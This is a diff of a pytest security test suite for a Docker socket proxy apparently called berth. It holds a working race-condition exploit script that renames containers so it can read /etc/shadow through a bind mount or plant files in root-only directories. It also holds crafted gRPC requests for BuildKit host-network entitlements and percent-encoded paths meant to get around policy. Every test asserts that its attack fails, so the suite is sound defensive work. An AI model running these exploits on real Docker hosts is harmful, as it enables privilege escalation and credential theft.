@@ -9,11 +9,16 @@ import json
 import os
 import pwd
 import socket
+import subprocess
+import sys
 import threading
 import time
 
+import grpc_h2c
+import netprobe
 import pytest
 from conftest import DEBIAN_CLI
+from grpc_h2c import field
 
 from berth.proxy import handler as proxy
 from berth.proxy import policy
@@ -21,7 +26,9 @@ from berth.proxy import policy
 CTX = policy.Context("10.213.7.128/25")
 
 
-def raw(sock_path, method, target, body=b"", headers=(), timeout=30, extra=b""):
+def raw(sock_path, method, target, body=b"", headers=(), timeout=30, extra=b"", until=None):
+    """One request on a connection of its own: (status, headers, body). `until`: bytes after which
+    the rest of the answer is not waited for."""
     s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
     s.settimeout(timeout)
     s.connect(sock_path)
@@ -35,6 +42,8 @@ def raw(sock_path, method, target, body=b"", headers=(), timeout=30, extra=b""):
     try:
         while chunk := s.recv(65536):
             data += chunk
+            if until is not None and until in data:
+                break
     except TimeoutError:
         data += b"<<TIMEOUT>>"
     s.close()
@@ -162,8 +171,9 @@ def test_policy_sees_buildkit_where_dockerd_does(env, spelling):
     target = f"/v1.41/build?{spelling}&remote=client-session&session=nonesuch-attack&t=bk-attack"
     found = policy.canonical(target)
     berth_sees = policy.asks_buildkit("POST", *found)
-    status, _, body = raw(env["engine"], "POST", target, b"", timeout=2)
-    # BuildKit waits for a session that never comes; the classic builder answers at once
+    # BuildKit waits for a session that never comes (its progress stream may say so first); the classic
+    # builder answers at once
+    status, _, body = raw(env["engine"], "POST", target, b"", timeout=2, until=b"moby.buildkit.trace")
     print(f"{spelling}: berth asks_buildkit={berth_sees}; dockerd {status} {_msg(body)}")
     dockerd_buildkit = status == 0 or b"session" in body.lower() or b"<<TIMEOUT>>" in body \
         or b"moby.buildkit.trace" in body  # BuildKit's own progress stream
@@ -297,78 +307,25 @@ def test_archive_race_copies_through_a_bind_as_root(env, harness, bound):
 # ---- 1b. gRPC entitlements -------------------------------------------------------------------
 
 
-def _pb_str(field, value):
-    data = value.encode() if isinstance(value, str) else value
-    return _varint(field << 3 | 2) + _varint(len(data)) + data
-
-
-def _varint(n):
-    out = b""
-    while True:
-        b, n = n & 0x7F, n >> 7
-        out += bytes([b | (0x80 if n else 0)])
-        if not n:
-            return out
-
-
-H2C_GRPC = b"POST /grpc HTTP/1.1\r\nHost: docker\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
-
-
-def grpc_call(sock_path, method, message=b"", upgrade=H2C_GRPC, timeout=30):
-    import h2.config
-    import h2.connection
-    import h2.events
-    with socket.socket(socket.AF_UNIX) as s:
-        s.settimeout(timeout)
-        s.connect(str(sock_path))
-        s.sendall(upgrade)
-        head = b""
-        while b"\r\n\r\n" not in head:
-            head += s.recv(1)
-        if not head.startswith(b"HTTP/1.1 101"):
-            return None, head, {}
-        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-        conn.initiate_connection()
-        stream = conn.get_next_available_stream_id()
-        conn.send_headers(stream, [(":method", "POST"), (":scheme", "http"), (":authority", "localhost"),
-                                   (":path", method), ("content-type", "application/grpc"), ("te", "trailers")])
-        conn.send_data(stream, b"\0" + len(message).to_bytes(4, "big") + message, end_stream=True)
-        s.sendall(conn.data_to_send())
-        reply, trailers = b"", {}
-        while True:
-            data = s.recv(65536)
-            if not data:
-                return "EOF", reply, trailers
-            for event in conn.receive_data(data):
-                if isinstance(event, h2.events.DataReceived):
-                    reply += event.data
-                    conn.acknowledge_received_data(event.flow_controlled_length, stream)
-                elif isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
-                    trailers.update((k.decode(), v.decode()) for k, v in event.headers)
-                elif isinstance(event, h2.events.StreamEnded):
-                    return trailers.get("grpc-status"), reply[5:], trailers
-            s.sendall(conn.data_to_send())
-
-
 def test_grpc_solve_asking_entitlements_is_refused(env):
     for ent in ("network.host", "security.insecure"):
         # SolveRequest: Ref=1, Frontend=6, FrontendAttrs=7 (map), Entitlements=9
-        attrs = _pb_str(7, _pb_str(1, "force-network-mode") + _pb_str(2, "host"))
-        msg = _pb_str(1, f"attack{ent}") + _pb_str(6, "dockerfile.v0") + attrs + _pb_str(9, ent)
-        status, reply, trailers = grpc_call(env["sock"], "/moby.buildkit.v1.Control/Solve", msg)
+        attrs = field(7, field(1, "force-network-mode") + field(2, "host"))
+        msg = field(1, f"attack{ent}") + field(6, "dockerfile.v0") + attrs + field(9, ent)
+        status, reply, trailers = grpc_h2c.call(env["sock"], "/moby.buildkit.v1.Control/Solve", msg)
         print(ent, status, trailers.get("grpc-message"), reply[:300])
         assert status != "0"
         assert "not allowed" in trailers.get("grpc-message", ""), trailers
     # no entitlement asked, frontend told host network
-    msg = (_pb_str(1, "attack-fnm") + _pb_str(6, "dockerfile.v0")
-           + _pb_str(7, _pb_str(1, "force-network-mode") + _pb_str(2, "host")))
-    status, reply, trailers = grpc_call(env["sock"], "/moby.buildkit.v1.Control/Solve", msg)
+    msg = (field(1, "attack-fnm") + field(6, "dockerfile.v0")
+           + field(7, field(1, "force-network-mode") + field(2, "host")))
+    status, reply, trailers = grpc_h2c.call(env["sock"], "/moby.buildkit.v1.Control/Solve", msg)
     print("force-network-mode only", status, trailers.get("grpc-message"))
     # encoded spellings of /grpc reach the gate too
     for up in (b"POST /%67rpc HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n",
                b"POST /v1.41/grpc HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n",
                b"POST /grpc?x=1 HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"):
-        status, reply, trailers = grpc_call(env["sock"], "/moby.buildkit.v1.Control/ListWorkers", b"", up)
+        status, reply, trailers = grpc_h2c.call(env["sock"], "/moby.buildkit.v1.Control/ListWorkers", b"", up)
         print(up.split(b"\r\n")[0], status, reply[:80] if status != "0" else "ok")
 
 
@@ -463,20 +420,31 @@ def test_idle_upgrades_hold_the_hosts_relay_threads(env, harness):
     assert during - before < splicerelay.MAX_THREADS, "one user's idle upgrades hold every relay thread of the host"
 
 
-EXPLOIT = r'''
-import socket, sys, threading, time
-sock, want, secret = sys.argv[1], sys.argv[2], sys.argv[3].encode()
+RACE = r'''
+# The red team's exploit, run by the user from their shell: rename containers round in one
+# thread while another copies out of ("get") or into ("put") the one checked by name.
+import io, os, socket, sys, tarfile, threading
+sock, mode, path, proof = sys.argv[1:]
 
-def req(method, target):
+def req(method, target, body=b""):
     s = socket.socket(socket.AF_UNIX)
     s.settimeout(20)
     s.connect(sock)
-    s.sendall(f"{method} {target} HTTP/1.1\r\nHost: d\r\nConnection: close\r\nContent-Length: 0\r\n\r\n".encode())
+    kind = "Content-Type: application/x-tar\r\n" if body else ""
+    s.sendall(f"{method} {target} HTTP/1.1\r\nHost: d\r\nConnection: close\r\n{kind}"
+              f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
     data = b""
     while chunk := s.recv(65536):
         data += chunk
     s.close()
     return data
+
+bio = io.BytesIO()
+with tarfile.open(fileobj=bio, mode="w") as t:
+    info = tarfile.TarInfo("planted")
+    info.size = 7
+    t.addfile(info, io.BytesIO(b"planted"))
+tar = bio.getvalue()
 
 stop = False
 def racer():
@@ -485,15 +453,33 @@ def racer():
                      ("rc-plain", "rc-bound"), ("rc-tmp", "rc-plain")):
             req("POST", f"/v1.41/containers/{a}/rename?name={b}")
 threading.Thread(target=racer, daemon=True).start()
+target = f"/v1.41/containers/rc-plain%2Farchive?path={path}&z=/containers/q/archive"
 for i in range(1, 250):
-    data = req("GET", f"/v1.41/containers/rc-plain%2Farchive?path={want}&z=/containers/q/archive")
-    if data.startswith(b"HTTP/1.1 200") and secret in data:
-        print("WON", i, len(data))
+    if mode == "get":  # proof: bytes of the root-only file, in what came back
+        data = req("GET", target)
+        won = data.startswith(b"HTTP/1.1 200") and proof.encode() in data
+    else:  # proof: the file planted where the user may not write
+        req("PUT", target, tar)
+        won = os.path.exists(proof)
+    if won:
+        print("WON", i)
         break
 else:
     print("LOST")
 stop = True
 '''
+
+
+def _race_as(harness, user, *args):
+    """RACE run by `user` from their shell (Debian's python3: what the user has): its output."""
+    script = f"{harness.root}/race.py"
+    with open(script, "w") as f:
+        f.write(RACE)
+    os.chmod(script, 0o644)
+    r = subprocess.run(["runuser", "-u", user, "--", "/usr/bin/python3", script, *args],
+                       capture_output=True, text=True, timeout=240)
+    print("as", user, ":", r.stdout, r.stderr[-500:])
+    return r.stdout
 
 
 def test_archive_race_as_the_user_from_their_shell(env, harness):
@@ -502,57 +488,10 @@ def test_archive_race_as_the_user_from_their_shell(env, harness):
         d("rm", "-f", c, check=False)
     d("create", "--name", "rc-plain", img, "true")
     d("create", "--name", "rc-bound", "-v", "/etc:/d", img, "true")
-    script = f"{harness.root}/exploit.py"
-    with open(script, "w") as f:
-        f.write(EXPLOIT)
-    os.chmod(script, 0o644)
-    import subprocess
     assert subprocess.run(["runuser", "-u", a, "--", "cat", "/etc/shadow"], capture_output=True).returncode != 0
-    r = subprocess.run(["runuser", "-u", a, "--", "/usr/bin/python3", script, env["sock"], "/d/shadow", "root:"],
-                       capture_output=True, text=True, timeout=240)
-    print("as", a, ":", r.stdout, r.stderr[-500:])
-    assert "WON" not in r.stdout
+    assert "WON" not in _race_as(harness, a, env["sock"], "get", "/d/shadow", "root:")
 
 
-EXPLOIT_PUT = r'''
-import io, socket, sys, tarfile, threading
-sock, dest, marker = sys.argv[1], sys.argv[2], sys.argv[3]
-bio = io.BytesIO()
-with tarfile.open(fileobj=bio, mode="w") as t:
-    info = tarfile.TarInfo("planted")
-    info.size = 7
-    t.addfile(info, io.BytesIO(b"planted"))
-tar = bio.getvalue()
-
-def req(method, target, body=b""):
-    s = socket.socket(socket.AF_UNIX)
-    s.settimeout(20)
-    s.connect(sock)
-    s.sendall(f"{method} {target} HTTP/1.1\r\nHost: d\r\nConnection: close\r\nContent-Type: application/x-tar\r\n"
-              f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
-    data = b""
-    while chunk := s.recv(65536):
-        data += chunk
-    s.close()
-    return data
-
-stop = False
-def racer():
-    while not stop:
-        for a, b in (("rc-plain", "rc-tmp"), ("rc-bound", "rc-plain"),
-                     ("rc-plain", "rc-bound"), ("rc-tmp", "rc-plain")):
-            req("POST", f"/v1.41/containers/{a}/rename?name={b}")
-threading.Thread(target=racer, daemon=True).start()
-import os
-for i in range(1, 250):
-    data = req("PUT", f"/v1.41/containers/rc-plain%2Farchive?path={dest}&z=/containers/q/archive", tar)
-    if os.path.exists(marker):
-        print("WON", i)
-        break
-else:
-    print("LOST")
-stop = True
-'''
 
 
 def test_archive_race_writes_where_the_user_cannot(env, harness):
@@ -565,18 +504,12 @@ def test_archive_race_writes_where_the_user_cannot(env, harness):
         d("rm", "-f", c, check=False)
     d("create", "--name", "rc-plain", img, "true")
     d("create", "--name", "rc-bound", "-v", f"{src}:/d", img, "true")
-    script = f"{harness.root}/exploit_put.py"
-    with open(script, "w") as f:
-        f.write(EXPLOIT_PUT)
-    os.chmod(script, 0o644)
-    import subprocess
     assert subprocess.run(["runuser", "-u", a, "--", "touch", f"{src}/rootdir/x"], capture_output=True).returncode != 0
-    r = subprocess.run(["runuser", "-u", a, "--", "/usr/bin/python3", script, env["sock"], "/d/rootdir",
-                        f"{src}/rootdir/planted"], capture_output=True, text=True, timeout=240)
     planted = f"{src}/rootdir/planted"
+    out = _race_as(harness, a, env["sock"], "put", "/d/rootdir", planted)
     st = os.stat(planted) if os.path.exists(planted) else None
-    print("as", a, ":", r.stdout, r.stderr[-500:], "planted:", st and (st.st_uid, oct(st.st_mode)))
-    assert "WON" not in r.stdout
+    print("planted:", st and (st.st_uid, oct(st.st_mode)))
+    assert "WON" not in out and st is None
 
 
 @pytest.mark.parametrize("target", ["/%76%31.41/containers/create", "/v1.41/containers/cre%61te",
@@ -603,48 +536,55 @@ def test_encoded_exec_keeps_its_body_check(env):
     d("rm", "-f", "ex-target", check=False)
 
 
-def _llb_http(url):
-    """A Definition: one http source, and the terminal op that names it."""
-    import hashlib
-    source = _pb_str(3, _pb_str(1, url))  # Op.source = SourceOp{identifier}
-    digest = "sha256:" + hashlib.sha256(source).hexdigest()
-    terminal = _pb_str(1, _pb_str(1, digest) + b"\x10\x00")  # Op.inputs = [Input{digest, index 0}]
-    return _pb_str(1, source) + _pb_str(1, terminal)
+SOLVE_HTTP = """
+import sys
+import grpc_h2c
+sock, ref, url = sys.argv[1:]
+status, _, trailers = grpc_h2c.call(sock, "/moby.buildkit.v1.Control/Solve", grpc_h2c.solve_http(ref, url), timeout=120)
+print(status, trailers.get("grpc-message"), flush=True)
+"""
+
+
+def _solve_http(sock, ref, url):
+    """A gRPC Solve whose build is dockerd fetching `url`, through `sock`, in a process of its own: started."""
+    return subprocess.Popen([sys.executable, "-c", SOLVE_HTTP, sock, ref, url], stdout=subprocess.PIPE,
+                            stderr=subprocess.STDOUT, text=True, start_new_session=True,
+                            env={**os.environ, "PYTHONPATH": os.path.dirname(grpc_h2c.__file__)})
 
 
 def test_grpc_http_source_stays_out_of_other_users_blocks(env, harness):
-    import subprocess
+    """A build asked over gRPC fetches from the user's own block, and never reaches another user's:
+    dockerd's SYN into b's block stays unanswered, and a listener there takes no connection."""
     b = harness.add_user()
     harness.berth("up", b)
-    imgb = harness.import_busybox(b)
-    ips = {}
-    for user, img in ((env["a"], env["img"]), (b, imgb)):
-        harness.docker(user, "rm", "-f", "web", check=False, cli=DEBIAN_CLI)
-        harness.docker(user, "run", "-d", "--name", "web", "--net=container:net", img, "sh", "-c",
-                       f"echo page-of-{user} > /www/index.html && exec httpd -f -p 8080 -h /www", cli=DEBIAN_CLI)
-        row = json.loads(harness.berth("status", user, "--json").stdout)["users"][0]
-        ips[user] = row["net_ip"]
-    time.sleep(1)
+    own = json.loads(harness.berth("status", env["a"], "--json").stdout)["users"][0]["net_ip"]
+    other = json.loads(harness.berth("status", b, "--json").stdout)["users"][0]
+    listener = None
+    env["d"]("rm", "-f", "web", check=False)
+    env["d"]("run", "-d", "--name", "web", "--net=container:net", env["img"], "sh", "-c",
+             f"echo page-of-{env['a']} > /www/index.html && exec httpd -f -p 8080 -h /www")
     try:
-        for who, ip in (("own", ips[env["a"]]), ("other", ips[b])):
-            msg = _pb_str(1, f"attack-http-{who}") + _pb_str(2, _llb_http(f"http://{ip}:8080/"))
-            t0 = time.time()
-            try:
-                status, reply, trailers = grpc_call(env["sock"], "/moby.buildkit.v1.Control/Solve", msg,
-                                                    timeout=30 if who == "own" else 5)
-            except TimeoutError:
-                status, trailers = "timeout", {}
-            print(who, ip, status, trailers.get("grpc-message"), f"{time.time() - t0:.1f}s")
-            if who == "other":
-                assert status != "0"
-        shell = subprocess.run(["runuser", "-u", env["a"], "--", "timeout", "4", "/bin/busybox", "wget", "-q",
-                                "-O", "-",
-                                f"http://{ips[b]}:8080/"], capture_output=True, text=True)
-        print("A's shell to B's block:", shell.returncode, shell.stdout)
+        for _ in range(50):  # httpd takes a moment to listen
+            if _serves(own):
+                break
+            time.sleep(0.1)
+        solve = _solve_http(env["sock"], "attack-http-own", f"http://{own}:8080/")
+        answer = solve.communicate(timeout=120)[0]
+        assert answer.split()[:1] == ["0"], answer  # the control: a fetch from the own block works
+        listener = netprobe.Listener(f"bt{harness.tag}g", other["bridge"], other["block"])
+        solve = _solve_http(env["sock"], "attack-http-other", f"http://{listener.address}:{listener.port}/")
+        netprobe.assert_dropped(solve, listener.address, listener.port, listener)
     finally:
-        harness.docker(env["a"], "rm", "-f", "web", check=False, cli=DEBIAN_CLI)
-        harness.docker(b, "rm", "-f", "web", check=False, cli=DEBIAN_CLI)
+        if listener is not None:
+            listener.close()
+        env["d"]("rm", "-f", "web", check=False)
         harness.berth("down", b, check=False)
+
+
+def _serves(ip):
+    with socket.socket() as s:
+        s.settimeout(1)
+        return s.connect_ex((ip, 8080)) == 0
 
 
 def test_start_target_rewritten_in_the_query_not_the_path():
